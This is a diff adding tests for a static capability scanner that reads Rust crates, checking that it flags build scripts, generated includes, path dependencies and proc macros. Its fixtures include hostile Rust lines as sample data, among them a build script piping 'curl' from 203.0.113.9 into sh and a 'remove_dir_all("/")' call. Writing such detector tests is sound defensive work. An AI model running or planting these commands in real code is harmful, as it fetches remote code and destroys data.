@@ -441,4 +441,89 @@ test('a module whose file cfg_attr picks: a path through it is resolved into eve
   assert.equal(clean.findings.filter((f) => f.kind === 'capability'), []);
 });
 
+
+/** Capability findings of a scan over in-memory files, as `file:line identifier[:access]`, sorted, and the packages. */
+const scanMap = async (files: Map<string, string>, entry: string): Promise<{ caps: string[]; notAnalyzed: string[]; packages: string[]; details: string[] }> => {
+  const r = await scanFiles([entry], { readSource: (p) => files.get(p) });
+  return {
+    caps: r.findings.filter((f) => f.kind === 'capability').map((f) => `${f.file}:${f.line} ${f.identifier}${f.access !== undefined ? `:${f.access}` : ''}`).sort(),
+    notAnalyzed: r.findings.filter((f) => f.kind === 'not-analyzed').map((f) => `${f.file}:${f.line} ${f.level} ${f.detail}`),
+    packages: r.packages,
+    details: r.findings.filter((f) => f.kind === 'capability').map((f) => f.detail ?? ''),
+  };
+};
+
+test('the package\'s build script is read with a handler of the package, its findings saying it runs at build time (evade4 r11)', async () => {
+  const files = new Map<string, string>([
+    ['/b/Cargo.toml', '[package]\nname = "srv"\n'],
+    ['/b/src/main.rs', 'fn main() {}\n'],
+    ['/b/build.rs', 'mod fetch;\nfn main() { fetch::get(); }\n'],
+    ['/b/fetch.rs', 'pub fn get() { std::process::Command::new("sh").arg("-c").arg("curl -s http://203.0.113.9 | sh").status().unwrap(); }\n'],
+  ]);
+  const got = await scanMap(files, '/b/src/main.rs');
+  assert.equal(got.caps, ['/b/fetch.rs:1 std::process::Command']);
+  // A build script named in the manifest, the default one turned off.
+  files.set('/b/Cargo.toml', '[package]\nname = "srv"\nbuild = "tools/gen.rs"\n');
+  files.set('/b/tools/gen.rs', 'fn main() { std::fs::write("x", "y").unwrap(); }\n');
+  const named = await scanMap(files, '/b/src/main.rs');
+  assert.equal(named.caps, ['/b/tools/gen.rs:1 std::fs::write:write']);
+  assert.ok(named.details.every((d) => d.startsWith('build script: runs when the crate is built')));
+  // Benign neighbours: build = false reads none; a build script that only prints Cargo's directives names nothing.
+  files.set('/b/Cargo.toml', '[package]\nname = "srv"\nbuild = false\n');
+  assert.equal((await scanMap(files, '/b/src/main.rs')).caps, []);
+  files.set('/b/Cargo.toml', '[package]\nname = "srv"\n');
+  files.set('/b/build.rs', 'fn main() { println!("cargo:rerun-if-changed=build.rs"); }\n');
+  assert.equal((await scanMap(files, '/b/src/main.rs')).caps, []);
+});
+
+test('include! of a path built at compile time (OUT_DIR) is not analyzed, saying what is unseen (evade4 r10)', async () => {
+  const files = new Map<string, string>([
+    ['/o/Cargo.toml', '[package]\nname = "srv"\n'],
+    ['/o/src/main.rs', 'include!(concat!(env!("OUT_DIR"), "/gen.rs"));\nfn main() { generated(); }\n'],
+  ]);
+  const got = await scanMap(files, '/o/src/main.rs');
+  assert.equal(got.notAnalyzed.length, 1);
+  assert.match(got.notAnalyzed[0]!, /^\/o\/src\/main\.rs:1 warning include! of a file generated at build time \(\$OUT_DIR\/gen\.rs\)/);
+  files.set('/o/src/main.rs', 'include!(concat!(env!("CARGO_MANIFEST_DIR"), "/src/x.rs"));\n');
+  assert.match((await scanMap(files, '/o/src/main.rs')).notAnalyzed[0]!, /include! of a file named at compile time \(\$CARGO_MANIFEST_DIR\/src\/x\.rs\)/);
+  // Benign neighbours: a literal include! is followed (as before); include_str! of OUT_DIR is data, no code.
+  files.set('/o/src/main.rs', 'include!("x.rs");\nconst S: &str = include_str!(concat!(env!("OUT_DIR"), "/v.txt"));\n');
+  files.set('/o/src/x.rs', 'fn x() {}\n');
+  assert.equal((await scanMap(files, '/o/src/main.rs')).notAnalyzed, []);
+});
+
+test('a path dependency inside the package or its workspace is followed, counting only the items reached (evade4 r12, r51)', async () => {
+  const files = new Map<string, string>([
+    ['/w/Cargo.toml', '[workspace]\nmembers = ["srv", "helper"]\n'],
+    ['/w/srv/Cargo.toml', '[package]\nname = "srv"\n[dependencies]\nhelper = { path = "../helper" }\nh2 = { path = "vendor/h2", package = "h2-real" }\n[dependencies.h3]\npath = "vendor/h3"\n[dev-dependencies]\ntesthelp = { path = "vendor/testhelp" }\n'],
+    ['/w/srv/src/main.rs', 'use helper::run;\nuse h3::sub;\nuse testhelp::wipe;\nfn main() { run("id"); h2::net::open(); sub::go(); wipe(); }\n'],
+    ['/w/helper/Cargo.toml', '[package]\nname = "helper"\n'],
+    // run is reached; wipe is not (held-out r14: a vendored crate counts only the items reached).
+    ['/w/helper/src/lib.rs', 'pub fn run(c: &str) { std::process::Command::new("sh").arg(c).status().unwrap(); }\npub fn wipe(p: &str) { std::fs::remove_dir_all(p).unwrap(); }\n'],
+    ['/w/srv/vendor/h2/Cargo.toml', '[package]\nname = "h2-real"\n[lib]\npath = "lib/root.rs"\n'],
+    ['/w/srv/vendor/h2/lib/net.rs', 'pub fn open() { std::net::TcpStream::connect("203.0.113.9:80").unwrap(); }\n'],
+    ['/w/srv/vendor/h3/Cargo.toml', '[package]\nname = "h3"\n'],
+    ['/w/srv/vendor/h3/src/sub.rs', 'pub fn go() { std::env::var("TOKEN").unwrap(); }\n'],
+    ['/w/srv/vendor/testhelp/Cargo.toml', '[package]\nname = "testhelp"\n'],
+    ['/w/srv/vendor/testhelp/src/lib.rs', 'pub fn wipe() { std::fs::remove_dir_all("/").unwrap(); }\n'],
+  ]);
+  const got = await scanMap(files, '/w/srv/src/main.rs');
+  assert.equal(got.caps, ['/w/helper/src/lib.rs:1 std::process::Command', '/w/srv/vendor/h2/lib/net.rs:1 std::net::TcpStream', '/w/srv/vendor/h3/src/sub.rs:1 std::env::var']);
+  // A dev-dependency (test code only) stays a crate, not read.
+  assert.equal(got.packages, ['std', 'testhelp']);
+  // The local proc macro's body (r12): the attribute's crate is followed to the function the use names.
+  const macros = new Map<string, string>([
+    ['/p/Cargo.toml', '[package]\nname = "srv"\n[dependencies]\nhelper_macros = { path = "macros" }\n'],
+    ['/p/src/main.rs', 'use helper_macros::tool;\n#[tool]\nfn run(c: &str) {}\nfn main() { run("id"); }\n'],
+    ['/p/macros/Cargo.toml', '[package]\nname = "helper_macros"\n[lib]\nproc-macro = true\n'],
+    ['/p/macros/src/lib.rs', 'use proc_macro::TokenStream;\n#[proc_macro_attribute]\npub fn tool(_a: TokenStream, _i: TokenStream) -> TokenStream {\n    quote::quote! { fn run(c: &str) { ::std::process::Command::new("sh").arg(c); } }.into()\n}\npub fn unused() { std::fs::remove_file("x").unwrap(); }\n'],
+  ]);
+  assert.equal((await scanMap(macros, '/p/src/main.rs')).caps, ['/p/macros/src/lib.rs:4 std::process::Command']);
+  // Benign neighbour: a path dependency outside the package and any workspace above it is not read (a crate, as before).
+  files.set('/w/Cargo.toml', '[package]\nname = "top"\n');
+  const outside = await scanMap(files, '/w/srv/src/main.rs');
+  assert.equal(outside.caps, ['/w/srv/vendor/h2/lib/net.rs:1 std::net::TcpStream', '/w/srv/vendor/h3/src/sub.rs:1 std::env::var']);
+  assert.equal(outside.packages, ['helper', 'std', 'testhelp']);
+});
+
 test.run();
